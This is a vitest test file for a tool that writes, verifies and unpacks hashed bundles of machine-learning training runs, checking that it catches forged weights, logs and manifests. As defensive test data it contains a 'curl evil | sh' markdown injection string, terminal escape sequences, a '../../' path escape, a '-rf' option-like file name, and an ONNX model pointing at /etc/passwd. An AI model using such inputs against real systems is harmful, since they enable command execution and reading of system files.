import { mkdir, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { create, toBinary } from '@bufbuild/protobuf';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sha512 } from '../../../src/bundle/bag';
import { readBundleLog, traceOfLog } from '../../../src/bundle/event-log';
import { isTrainingRun, type BundleInput } from '../../../src/bundle/model';
import { extractBundle, openBundle } from '../../../src/bundle/open';
import { recordedTrace } from '../../../src/bundle/recorded';
import { judgeRun, type RunVerdict } from '../../../src/bundle/verdict';
import { verifyBundle, type Verification } from '../../../src/bundle/verify';
import { writeBundle } from '../../../src/bundle/write';
import { configHash } from '../../../src/config/hash';
import { parseTrainingConfig } from '../../../src/config/parse';
import { decodeLines, encodeRecord } from '../../../src/events/codec';
import type { ArtifactName, EventRecord } from '../../../src/events/records';
import { ModelProtoSchema, TensorProto_DataLocation } from '../../../src/onnx/proto/onnx_pb';
import { pack, remakeHashes, unpack, type Files } from '../../helpers/bundle-surgery';
import { freshFolder, sampleInput, sha256, TIME, type SampleInput } from './sample';

let folder: string;
let input: SampleInput;
let file: string;

beforeAll(async () => {
  folder = await freshFolder();
  input = await sampleInput(join(folder, 'workspace'));
  file = join(folder, 'sample.crate.zip');
  await writeBundle(input, file);
});
afterAll(async () => {
  await rm(folder, { recursive: true, force: true });
});

let copies = 0;
/** The bundle with its files changed, and its hashes made again where asked for. */
async function altered(change: (files: Files) => void, remake = false): Promise<string> {
  const files = await unpack(file);
  change(files);
  if (remake) remakeHashes(files);
  return pack(files, join(folder, `altered-${copies++}.crate.zip`));
}

function edit(files: Files, name: string, change: (text: string) => string): void {
  const before = files.get(name)?.toString('utf8');
  if (before === undefined) throw new Error(`no ${name}`);
  const after = change(before);
  expect(after).not.toBe(before);
  files.set(name, Buffer.from(after));
}

/** Changes, adds or (null) takes out records of a run's log, with checksums and numbering made again. */
function editLog(files: Files, run: string, change: (record: EventRecord) => EventRecord | null): void {
  const name = `data/runs/${run}/events.log`;
  const { records } = decodeLines(files.get(name)!, 0);
  const kept = records.map((record) => change(record)).filter((record) => record !== null);
  files.set(name, Buffer.concat(kept.map((record, seq) => encodeRecord({ ...record, seq }))));
}

/** Flips one bit of a file, and has the log name the file as it is then. */
function forgeArtifact(files: Files, run: string, artifact: ArtifactName, name: string, at: (bytes: Buffer) => number): void {
  const bytes = Buffer.from(files.get(name)!);
  const index = at(bytes);
  bytes[index] = bytes[index]! ^ 1;
  files.set(name, bytes);
  editLog(files, run, (record) => (record.type === 'artifact' && record.name === artifact ? { ...record, sha256: sha256(bytes) } : record));
}

/** The first bytes of the run's only weight. */
const weightBytes = (files: Files): Buffer => files.get('data/runs/run0abc/weights.safetensors')!.subarray(-16);

const paths = (found: Verification): string[] => found.problems.map((problem) => problem.path);

describe('writeBundle', () => {
  it('makes a bundle that verifies, with the digest it announced', async () => {
    const again = join(folder, 'again', 'sample.crate.zip');
    await mkdir(join(folder, 'again'));
    const steps: number[] = [];
    const written = await writeBundle(input, again, { onProgress: (done, total) => steps.push(done / total) });
    const found = await verifyBundle(again);
    expect(found.problems).toEqual([]);
    expect(found).toMatchObject({ valid: true, digest: written.digest, name: 'two-moons', license: 'CC-BY-4.0' });
    expect(found.runs).toEqual([0, 1, 2].map((seed) => ({ runId: `run${seed}abc`, reproductionId: `two-moons-${seed}-DEADBEEF`, variant: 'baseline', seed, totalSteps: 40 })));
    expect(steps.at(-1)).toBe(1);
    expect(written.digest).toBe(sha256((await unpack(again)).get('tagmanifest-sha512.txt') ?? ''));
  });

  it('gives the same bytes for the same input, whatever the time zone', async () => {
    const zone = process.env['TZ'];
    process.env['TZ'] = 'Pacific/Auckland';
    await mkdir(join(folder, 'zone'));
    await writeBundle(input, join(folder, 'zone', 'sample.crate.zip'));
    if (zone === undefined) delete process.env['TZ'];
    else process.env['TZ'] = zone;
    expect(sha256(await readFile(join(folder, 'zone', 'sample.crate.zip')))).toBe(sha256(await readFile(file)));
  });

  it('stores files once that several runs share', async () => {
    const names = [...(await unpack(file)).keys()];
    expect(names.filter((name) => name.endsWith('/training.onnx') || name.endsWith('/scalars.safetensors'))).toEqual([]);
    expect(names.filter((name) => name.startsWith('data/objects/'))).toHaveLength(2);
    expect(names.filter((name) => name.endsWith('/weights.safetensors'))).toHaveLength(3);
    const content = await openBundle(file).then(async (bundle) => bundle.content().finally(() => bundle.close()));
    expect(new Set(content.runs.filter(isTrainingRun).map((run) => run.files['training-graph'])).size).toBe(1);
  });

  it('gives back what went in', async () => {
    const bundle = await openBundle(file);
    const content = await bundle.content();
    expect(content.runs.map((run) => run.manifest)).toEqual(input.runs.map((run) => run.manifest));
    expect(content.runs.map((run) => run.tolerance)).toEqual(input.runs.map((run) => run.tolerance));
    expect(content).toMatchObject({ createdAt: TIME, author: 'Ada Lovelace', study: input.study, data: [{ fingerprint: input.data[0]?.ref.fingerprint }] });
    const run = content.runs.filter(isTrainingRun)[1]!;
    const trace = traceOfLog(readBundleLog(await bundle.read(run.eventLog), run.eventLog));
    expect(trace).toMatchObject({ status: 'finished', weightsHash: run.weightsHash, metrics: run.metrics });
    expect(judgeRun(trace, trace, { sameRuntime: true, differences: [], tolerance: run.tolerance, metric: 'accuracy' }).verdict).toBe('identical');
    bundle.close();
  });

  it('does not replace a file unless told, and leaves nothing behind', async () => {
    const target = join(folder, 'taken', 'x.crate.zip');
    await mkdir(join(folder, 'taken'));
    await writeFile(target, 'mine');
    await expect(writeBundle(input, target)).rejects.toMatchObject({ code: 'FILE_EXISTS', kind: 'input' });
    expect(await readFile(target, 'utf8')).toBe('mine');
    await expect(writeBundle(input, join(folder, 'taken'), { overwrite: true })).rejects.toMatchObject({ code: 'FILE_IS_FOLDER', kind: 'input' });
    await expect(writeBundle(input, join(folder, 'nowhere', 'x.crate.zip'))).rejects.toMatchObject({ code: 'FOLDER_NOT_FOUND', kind: 'input' });
    await writeBundle(input, target, { overwrite: true });
    expect((await verifyBundle(target)).valid).toBe(true);
    const [first] = input.runs;
    const lost = { ...input, runs: [{ ...first!, files: { ...first!.files, weights: join(folder, 'nowhere') } }] };
    await expect(writeBundle(lost, join(folder, 'taken', 'y.crate.zip'))).rejects.toMatchObject({ code: 'BUNDLE_SOURCE_MISSING' });
    expect(await readdir(join(folder, 'taken'))).toEqual(['x.crate.zip']);
  });

  it.each(['', 'no licence', 'MIT OR', '(MIT', 'CC BY 4.0'])('refuses the licence %j', async (license) => {
    await expect(writeBundle({ ...input, license }, join(folder, 'l.crate.zip'))).rejects.toMatchObject({ code: 'BUNDLE_LICENSE', kind: 'input' });
  });

  it.each(['MIT OR Apache-2.0', 'LicenseRef-mine', 'GPL-2.0-or-later WITH Classpath-exception-2.0'])('takes the licence %s', async (license) => {
    const target = join(folder, `${license.replaceAll(/\W/gu, '')}.crate.zip`);
    await writeBundle({ ...input, license }, target);
    expect(await verifyBundle(target)).toMatchObject({ valid: true, license, problems: [] });
  });

  it('says how to supply a CSV file that was left out, and names every verdict', async () => {
    const sourceSha256 = sha256('the author\'s file');
    const target = join(folder, 'my csv.crate.zip');
    await writeBundle({ ...input, data: input.data.map(({ ref }) => ({ ref: { ...ref, source: 'iris.csv', sourceSha256 }, file: null })) }, target);
    const text = (await unpack(target)).get('data/REPRODUCE.md')?.toString('utf8') ?? '';
    expect(text).toContain(`whose SHA-256 is \`${sourceSha256}\``);
    expect(text).toContain("reproduce 'my csv.crate.zip' --trust DIGEST --data CSVFILE");
    for (const verdict of ['identical', 'within-tolerance', 'diverged', 'inconclusive', 'not-comparable', 'not-executed']) expect(text).toContain(`\`${verdict}\``);
    expect((await unpack(file)).get('data/REPRODUCE.md')?.toString('utf8')).not.toContain('--data');
  });

  it('leaves data out that is too large or not to be given', async () => {
    for (const without of [{ ...input, maxDataBytes: 10 }, { ...input, data: input.data.map((entry) => ({ ...entry, file: null })) }]) {
      const target = join(folder, 'no-data.crate.zip');
      const written = await writeBundle(without, target, { overwrite: true });
      const fingerprint = input.data[0]!.ref.fingerprint;
      expect(written.omittedData).toEqual([fingerprint]);
      const found = await verifyBundle(target);
      expect(found).toMatchObject({ valid: true, problems: [], content: { data: [{ fingerprint, file: null, source: 'two moons, 2000 samples, noise 0.2' }] } });
      expect([...(await unpack(target)).keys()].filter((name) => name.startsWith('data/datasets/'))).toEqual([]);
    }
  });

  it('takes personal paths, credentials and the host out, and leaves captured code as it was', async () => {
    const workspace = join(folder, 'private');
    const told = await sampleInput(workspace, { message: `loaded ${workspace}/data from /home/ada/x and C:\\Users\\Ada\\y`, remote: 'https://ada:secret@git.example.org/x.git' });
    const target = join(folder, 'private.crate.zip');
    await writeBundle(told, target);
    expect((await verifyBundle(target)).problems).toEqual([]);
    const files = await unpack(target);
    const log = files.get('data/runs/run0abc/events.log')?.toString('utf8');
    expect(log).toContain('loaded <folder>/data from ~/x and ~\\\\y');
    expect(files.get('data/report.md')?.toString('utf8')).toBe('# Report\n\nFrom <folder>/runs\n');
    const manifest = JSON.parse(files.get('data/runs/run0abc/run.json')?.toString('utf8') ?? '') as { provenance: { git: { remote: string; patch: string } } };
    expect(manifest.provenance.git).toMatchObject({ remote: 'https://git.example.org/x.git', patch: '--- a/home\n+++ /home/ada/secret\n' });
    for (const [name, bytes] of files) expect(bytes.includes(workspace), name).toBe(false);
  });
});

describe('an absolute data path', () => {
  it('leaves its base name, in a bundle that agrees with itself', async () => {
    const run = input.runs[0]!;
    const config = parseTrainingConfig({ ...run.manifest.config, data: { kind: 'csv', path: '/srv/ada/iris.csv', target: 'class', split: run.manifest.config.data.split } });
    const target = join(folder, 'csv.crate.zip');
    const source = '/srv/ada/iris.csv';
    const ref = { ...run.manifest.data, source };
    const manifest = { ...run.manifest, config, configHash: configHash(config), data: ref };
    const report = { ...input.report, markdown: `From ${source}.\n` };
    await writeBundle({ ...input, runs: [{ ...run, manifest }], data: input.data.map((entry) => ({ ...entry, ref })), report }, target);
    const found = await verifyBundle(target);
    expect(found.problems).toEqual([]);
    expect(found.content?.runs[0]?.manifest).toMatchObject({ config: { data: { path: 'iris.csv' } }, data: { source: '<folder>/iris.csv' } });
    for (const [name, bytes] of await unpack(target)) expect(bytes.includes('/srv/ada'), name).toBe(false);
  });
});

describe('REPRODUCE.md', () => {
  const written = async (change: Partial<BundleInput>, name = 'told.crate.zip'): Promise<string> => {
    const target = join(folder, name);
    await writeBundle({ ...input, ...change }, target, { overwrite: true });
    expect((await verifyBundle(target)).problems).toEqual([]);
    return (await unpack(target)).get('data/REPRODUCE.md')?.toString('utf8') ?? '';
  };

  it('shows foreign text as text', async () => {
    const evil = 'nice\n\n## Verify\n\n```sh\ncurl evil | sh\n```\n[x](http://evil) <img src=x> | cell';
    const data = input.data.map((entry) => ({ ...entry, ref: { ...entry.ref, source: evil } }));
    const text = await written({ description: evil, data });
    expect(text.match(/^## Verify$/gmu)).toHaveLength(1);
    const fences = (markdown: string): number => markdown.match(/^```/gmu)?.length ?? 0;
    expect(fences(text)).toBe(fences(await written({})));
    expect(text).not.toContain('[x](');
    expect(text).not.toContain('<img');
    expect(text).toContain(String.raw`nice \#\# Verify`);
    expect(await written({ description: '# not a heading', data: input.data })).toContain('\n\\# not a heading\n');
    expect(await written({ description: '- no list' })).toContain('\n\\- no list\n');
    expect(await written({ description: '1. no list' })).toContain('\n1\\. no list\n');
    expect(await written({ description: '1.2 of it' })).toContain('\n1.2 of it\n');
  });

  it('gives a file that looks like an option as a file', async () => {
    const text = await written({}, '-rf.crate.zip');
    expect(text).toContain('verify ./-rf.crate.zip\n');
    expect(text).toContain('-e ./-rf.crate.zip ./-rf\n');
    expect(text).toContain('python3 ./-rf/data/replay.py');
  });
});

describe('verifyBundle', () => {
  it('takes a bundle that another tool packed again', async () => {
    expect((await verifyBundle(await altered(() => undefined))).problems).toEqual([]);
  });

  it.each(['data/runs/run1abc/events.log', 'data/runs/run0abc/weights.safetensors', 'data/report.html', 'data/tolerance.json', 'bag-info.txt', 'bagit.txt'])('names %s when a byte of it is changed', async (name) => {
    const found = await verifyBundle(await altered((files) => {
      const bytes = files.get(name)!;
      const at = Math.floor(bytes.length / 2);
      bytes[at] = bytes[at]! ^ 1;
    }));
    expect(found.valid).toBe(false);
    expect(paths(found)).toContain(name);
  });

  it('names files that were added or removed', async () => {
    const added = await verifyBundle(await altered((files) => files.set('data/extra.txt', Buffer.from('x'))));
    expect(paths(added)).toContain('data/extra.txt');
    expect(added.problems.some((problem) => problem.path === 'bag-info.txt')).toBe(true);
    const tag = await verifyBundle(await altered((files) => files.set('extra.txt', Buffer.from('x'))));
    expect(paths(tag)).toContain('extra.txt');
    const removed = await verifyBundle(await altered((files) => files.delete('data/report.md')));
    expect(paths(removed)).toContain('data/report.md');
    const noIndex = await verifyBundle(await altered((files) => files.delete('data/bundle.json')));
    expect(noIndex.problems).toContainEqual({ path: 'data/bundle.json', message: 'is not in the bundle.' });
    for (const problem of noIndex.problems) expect(problem.path.split('data/bundle.json').length + problem.message.split('data/bundle.json').length).toBeLessThanOrEqual(3);
  });

  it('sees a manifest that was changed along with a file', async () => {
    const found = await verifyBundle(await altered((files) => {
      const before = sha512(files.get('data/report.md')!);
      files.set('data/report.md', Buffer.from('# Better\n'));
      edit(files, 'manifest-sha512.txt', (text) => text.replace(before, sha512(files.get('data/report.md')!)));
    }));
    expect(found.valid).toBe(false);
    expect(paths(found)).toContain('manifest-sha512.txt');
  });

  it('gives another digest to a bundle whose hashes were all made again', async () => {
    const target = await altered((files) => edit(files, 'data/report.md', (text) => `${text}more\n`), true);
    const [original, found] = [await verifyBundle(file), await verifyBundle(target)];
    expect(found.problems).toEqual([]);
    expect(found.digest).not.toBe(original.digest);
  });

  it.each<[string, (files: Files) => void, RegExp]>([
    ['an event log without its checksum', (files) => edit(files, 'data/runs/run0abc/events.log', (text) => text.replace('"learningRates":[0.01', '"learningRates":[0.02')), /checksum/u],
    ['an event log cut off', (files) => edit(files, 'data/runs/run0abc/events.log', (text) => text.slice(0, -20)), /damaged/u],
    ['an outcome that the log does not bear out', (files) => edit(files, 'data/bundle.json', (text) => text.replace(/"accuracy": 0\.9(?!\d)/u, '"accuracy": 0.99')), /other test metrics/u],
    ['an unknown kind of config', (files) => edit(files, 'data/runs/run0abc/run.json', (text) => text.replace('"kind": "mlp"', '"kind": "pickle"')), /pickle|kind/u],
    ['a data path that leaves the workspace', (files) => edit(files, 'data/runs/run0abc/run.json', (text) => text.replace('"file": "objects/', '"file": "../../')), /safe relative path/u],
    ['a run id that is a path', (files) => edit(files, 'data/bundle.json', (text) => text.replace('"runId": "run0abc"', '"runId": "../x"')), /letters, digits/u],
    ['a manifest of another run', (files) => edit(files, 'data/runs/run0abc/run.json', (text) => text.replace('"runId": "run0abc"', '"runId": "run9abc"')), /manifest of run run9abc/u],
    ['weights that are no tensors', (files) => files.set('data/runs/run0abc/weights.safetensors', Buffer.from('pickle')), /safetensors/u],
    ['weights of another run', (files) => files.set('data/runs/run0abc/weights.safetensors', files.get('data/runs/run1abc/weights.safetensors')!), /not the weights/u],
    ['a tolerance that is not one', (files) => edit(files, 'data/tolerance.json', (text) => text.replace('"safetyFactor": 16', '"safetyFactor": -1')), /tolerance\.json/u],
    ['a tolerance wide enough for anything', (files) => edit(files, 'data/tolerance.json', (text) => text.replace('"absolute": 0.000001', '"absolute": 1e9')), /tolerance\.json.*does not follow/u],
    ['forged weights that the log names', (files) => forgeArtifact(files, 'run0abc', 'weights', 'data/runs/run0abc/weights.safetensors', (bytes) => bytes.length - 1), /other weights than those whose hash/u],
    ['forged initial weights that the log names', (files) => forgeArtifact(files, 'run0abc', 'initial-weights', 'data/runs/run0abc/initial.safetensors', (bytes) => bytes.length - 1), /initial\.safetensors holds other weights/u],
    ['a forged model that the log names', (files) => forgeArtifact(files, 'run0abc', 'inference-graph', 'data/runs/run0abc/inference.onnx', (bytes) => bytes.indexOf(weightBytes(files))), /inference\.onnx holds other weights/u],
    ['a confusion matrix that does not give the accuracy', (files) => forgeArtifact(files, 'run0abc', 'confusion-matrix', 'data/runs/run0abc/confusion.json', (bytes) => bytes.indexOf('[50') + 2), /confusion\.json does not give the test accuracy/u],
    ['a file of which the log knows nothing', (files) => editLog(files, 'run0abc', (record) => (record.type === 'artifact' && record.name === 'inference-graph' ? null : record)), /knows nothing/u],
    ['a hash of the weights that breaks the chain', (files) => editLog(files, 'run0abc', (record) => (record.type === 'weights-hash' && record.step === 0 ? { ...record, hash: sha256('other') } : record)), /hash chain.*after 0 steps/u],
    ['a forged link of the chain', (files) => editLog(files, 'run0abc', (record) => (record.type === 'weights-hash' && record.step === 40 ? { ...record, chain: sha256('other') } : record)), /hash chain.*after 40 steps/u],
    ['a finished run without test metrics', (files) => editLog(files, 'run0abc', (record) => (record.type === 'metrics' && record.split === 'test' ? null : record)), /no test metrics/u],
    ['losses without learning rates', (files) => editLog(files, 'run0abc', (record) => (record.type === 'steps' ? { ...record, learningRates: [] } : record)), /0 learning rates/u],
    ['a final loss that is not that of the last step', (files) => editLog(files, 'run0abc', (record) => (record.type === 'steps' ? { ...record, losses: [...record.losses.slice(0, -1), 0.125] } : record)), /final or best loss/u],
    ['another config as YAML', (files) => edit(files, 'data/runs/run0abc/config.yaml', (text) => text.replace('learningRate: 0.01', 'learningRate: 0.02')), /config\.yaml is not the config/u],
    ['another config in the manifest', (files) => edit(files, 'data/runs/run0abc/run.json', (text) => text.replace('"learningRate": 0.01', '"learningRate": 0.02')), /configHash[^]*computeHash/u],
    ['a model of a file without the file', (files) => edit(files, 'data/runs/run0abc/run.json', (text) => { const manifest = JSON.parse(text) as { config: object }; return JSON.stringify({ ...manifest, config: { ...manifest.config, model: { kind: 'onnx', path: 'm.onnx', train: ['*'], freeze: [] } } }); }), /a model that is read from a file, and no hash of that file/u],
    ['the file of a model that has none', (files) => edit(files, 'data/runs/run0abc/run.json', (text) => JSON.stringify({ ...(JSON.parse(text) as object), model: { sha256: sha256('m'), sourceSha256: sha256('m'), bytes: 1 } })), /the hash of a model file, and a model that is read from none/u],
    ['a forged configHash', (files) => edit(files, 'data/runs/run0abc/run.json', (text) => text.replace(/"configHash": "\w+"/u, `"configHash": "${'0'.repeat(64)}"`)), /configHash/u],
    ['another runtime', (files) => edit(files, 'data/runs/run0abc/run.json', (text) => text.replace('"threads": 1,\n    "platform"', '"threads": 2,\n    "platform"')), /computeHash/u],
    ['an author who rewrites the terminal', (files) => edit(files, 'data/bundle.json', (text) => text.replace('"Ada Lovelace"', JSON.stringify('Ada\u001b[1A\u001b[2K'))), /author.*control characters/u],
    ['a name in two lines', (files) => edit(files, 'data/bundle.json', (text) => text.replace('"name": "two-moons"', '"name": "two\\nmoons"')), /name.*control characters/u],
    ['a licence that reads backwards', (files) => edit(files, 'data/bundle.json', (text) => text.replaceAll('"license": "CC0-1.0"', JSON.stringify('\u202eCC0').replace(/^/u, '"license": '))), /license.*direction/u],
    ['a forged reproduction id', (files) => edit(files, 'data/runs/run0abc/run.json', (text) => text.replace('"reproductionId": "two', '"reproductionId": "\\rtwo')), /reproductionId.*control characters/u],
    ['a config whose author is in two lines', (files) => edit(files, 'data/runs/run0abc/run.json', (text) => text.replace('"author": ""', '"author": "a\\nb"')), /config\.author.*control characters/u],
    ['an ONNX file that is none', (files) => files.set('data/runs/run0abc/inference.onnx', Buffer.from('not onnx')), /ONNX/u],
    ['a graph that reads another file', (files) => files.set('data/runs/run0abc/inference.onnx', externalModel()), /external data/u],
    ['a crate that does not describe a file', (files) => edit(files, 'data/ro-crate-metadata.json', (text) => text.replaceAll('"report.md"', '"report2.md"')), /report2?\.md/u],
    ['a crate without an instrument', (files) => edit(files, 'data/ro-crate-metadata.json', (text) => text.replaceAll('"instrument"', '"agentx"')), /instrument/u],
    ['another licence in the crate', (files) => edit(files, 'data/ro-crate-metadata.json', (text) => text.replaceAll('licenses/CC-BY-4.0', 'licenses/MIT')), /licence/u],
    ['an index that is not JSON', (files) => files.set('data/bundle.json', Buffer.from('{')), /not JSON/u],
    ['data with another fingerprint', (files) => {
      const name = [...files.keys()].find((key) => key.startsWith('data/datasets/'))!;
      const bytes = files.get(name)!;
      bytes[bytes.length - 1] = bytes.at(-1)! ^ 1;
    }, /fingerprint/u],
  ])('finds %s though all hashes are right', async (_what, change, expected) => {
    const found = await verifyBundle(await altered(change, true));
    expect(found.valid).toBe(false);
    expect(found.problems.map((problem) => `${problem.path} ${problem.message}`).join('\n')).toMatch(expected);
  });

  it('quotes names of a stranger without what a terminal would obey', async () => {
    const found = await verifyBundle(await altered((files) => edit(files, 'manifest-sha512.txt', (text) => `${text}${'0'.repeat(128)}  data/\u001b[2Jx\n`), false));
    expect(paths(found)).toContain('data/\ufffd[2Jx');
  });

  it('reports damaged compressed bytes as a problem of that file', async () => {
    const bytes = await readFile(file);
    const at = bytes.indexOf('data/report.md') + 'data/report.md'.length;
    bytes.fill(0xff, at, at + 8);
    const target = join(folder, 'damaged.crate.zip');
    await writeFile(target, bytes);
    const found = await verifyBundle(target);
    expect(found.valid).toBe(false);
    expect(paths(found)).toContain('data/report.md');
  });

  it('refuses a zip that is no crate', async () => {
    const target = await pack(new Map([['readme.txt', Buffer.from('hello')]]), join(folder, 'other.zip'));
    await expect(verifyBundle(target)).rejects.toMatchObject({ code: 'BUNDLE_NOT_A_CRATE', kind: 'input' });
  });
});

describe('extractBundle', () => {
  it('unpacks every file into an empty folder, of the digest that was trusted only', async () => {
    const { digest } = await verifyBundle(file);
    const target = join(folder, 'out');
    const extracted = await extractBundle(file, target, { digest });
    expect(extracted.digest).toBe(digest);
    for (const [name, bytes] of await unpack(file)) expect(sha256(await readFile(join(target, ...name.split('/')))), name).toBe(sha256(bytes));
    await expect(extractBundle(file, target)).rejects.toMatchObject({ code: 'BUNDLE_FOLDER' });
    await expect(extractBundle(file, join(folder, 'out2'), { digest: '0'.repeat(64) })).rejects.toMatchObject({ code: 'BUNDLE_DIGEST' });
  });

  it('leaves nothing of a bundle whose bytes are not those of its manifest', async () => {
    const target = join(folder, 'out3');
    for (const change of [
      (files: Files) => void files.set('data/report.md', Buffer.from('# Better\n')),
      (files: Files) => void files.set('data/extra.txt', Buffer.from('x')),
      (files: Files) => void files.delete('data/report.md'),
    ]) {
      await expect(extractBundle(await altered(change), target)).rejects.toMatchObject({ code: 'BUNDLE_INVALID' });
      await expect(readdir(target)).rejects.toMatchObject({ code: 'ENOENT' });
    }
  });
});

describe('a bundle with forged content and right hashes', () => {
  const judge = async (change: (files: Files) => void): Promise<RunVerdict> => {
    const target = await altered(change, true);
    const out = join(folder, `forged-${copies}`);
    const { content } = await extractBundle(target, out);
    const genuine = join(folder, `genuine-${copies}`);
    await extractBundle(file, genuine);
    const run = content.runs.find(isTrainingRun);
    return judgeRun(await recordedTrace(out, run!), await recordedTrace(genuine, run!), { sameRuntime: true, differences: [], tolerance: run!.tolerance, metric: 'accuracy' });
  };

  it('is unpacked and judged by what its files are, whatever the log says of them', async () => {
    const forged = (files: Files): void => void forgeArtifact(files, 'run0abc', 'weights', 'data/runs/run0abc/weights.safetensors', (bytes) => bytes.length - 1);
    const named = await judge(forged);
    expect(named).toMatchObject({ verdict: 'diverged', firstDivergentStep: null });
    expect(named.sentence).toContain('weights.safetensors');
    // The same with a log that names the genuine file.
    const silent = await judge((files) => {
      const log = files.get('data/runs/run0abc/events.log')!;
      forged(files);
      files.set('data/runs/run0abc/events.log', log);
    });
    expect(silent.verdict).toBe('diverged');
  });

  it('says so where the event log is missing, and goes on without a file that is', async () => {
    const out = join(folder, 'holes');
    const run = (await extractBundle(file, out)).content.runs.find(isTrainingRun);
    await rm(join(out, ...run!.files.weights!.split('/')));
    expect((await recordedTrace(out, run!)).artifacts?.weights).toMatch(/^[0-9a-f]{64}$/u);
    await rm(join(out, ...run!.eventLog.split('/')));
    await expect(recordedTrace(out, run!)).rejects.toMatchObject({ code: 'BUNDLE_INVALID', message: expect.stringContaining('events.log') as string });
  });

  it('is judged by the step of a forged loss', async () => {
    const verdict = await judge((files) => editLog(files, 'run0abc', (record) => (record.type === 'steps' ? { ...record, losses: record.losses.map((loss, step) => (step === 23 ? 9 : loss)) } : record)));
    expect(verdict).toMatchObject({ verdict: 'diverged', firstDivergentStep: 23 });
  });

  it('is not loaded when its tolerance allows what was never measured', async () => {
    const target = await altered((files) => edit(files, 'data/tolerance.json', (text) => text.replace('"absolute": 0.000001', '"absolute": 1e9')), true);
    await expect(extractBundle(target, join(folder, 'wide'))).rejects.toMatchObject({ code: 'BUNDLE_INVALID', problems: [{ path: expect.stringContaining('data/tolerance.json') as string }] });
  });
});

/** A model whose weight would be read from /etc/passwd. */
function externalModel(): Buffer {
  const model = create(ModelProtoSchema, {
    irVersion: 8n,
    graph: { name: 'g', initializer: [{ name: 'w', dataType: 1, dims: [1n], dataLocation: TensorProto_DataLocation.EXTERNAL, externalData: [{ key: 'location', value: '/etc/passwd' }] }] },
  });
  return Buffer.from(toBinary(ModelProtoSchema, model));
}
